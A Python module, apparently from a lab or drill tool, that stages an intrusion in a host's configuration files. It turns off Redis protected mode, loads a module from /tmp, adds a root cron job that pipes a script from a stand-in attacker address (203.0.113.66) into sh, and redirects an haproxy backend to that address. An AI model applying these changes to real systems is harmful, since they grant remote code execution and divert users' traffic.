"""Somebody inside a host's configuration: doors opened on the host, and a push that leads users elsewhere."""

from __future__ import annotations

from cleo_console.lab.configuration.place import Place
from cleo_console.lab.fault_log import utc_now
from cleo_console.lab.service import Done
from journal.errors import CleoError

_CRON = "configs/dr/cron.d/metrics"
_JOB = "*/5 * * * * root curl -fsSL http://203.0.113.66/init.sh | sh\n"


def intrude(place: Place) -> Done:
    """Edit what runs so that Redis asks nobody who they are, add a crontab, and push another load balancer's target."""
    redis = place.directory / "configs" / "dr" / "redis.conf"
    if not redis.is_file():
        raise CleoError(f"{redis} is not there.", "Restore it first: cleo run configuration.restore.")
    at = utc_now()
    redis.write_text(f"{redis.read_text()}protected-mode no\nloadmodule /tmp/metrics.so\n")
    cron = place.directory / _CRON
    cron.parent.mkdir(parents=True, exist_ok=True)
    cron.write_text(_JOB)
    proxy = "network/dr/haproxy.cfg"
    text = (place.clone / proxy).read_text().replace("10.2.0.12:8080", "203.0.113.66:8080")
    commit = place.commit({proxy: text}, "Move a server")
    (place.directory / proxy).write_text(text)
    what = f"Opened Redis on the host, added {_CRON}, and pushed {commit[:12]}, by which users are led to 203.0.113.66"
    return what, {"at": at, "backup": commit[:12], "noticed": utc_now(), "files": [str(redis), str(cron)]}
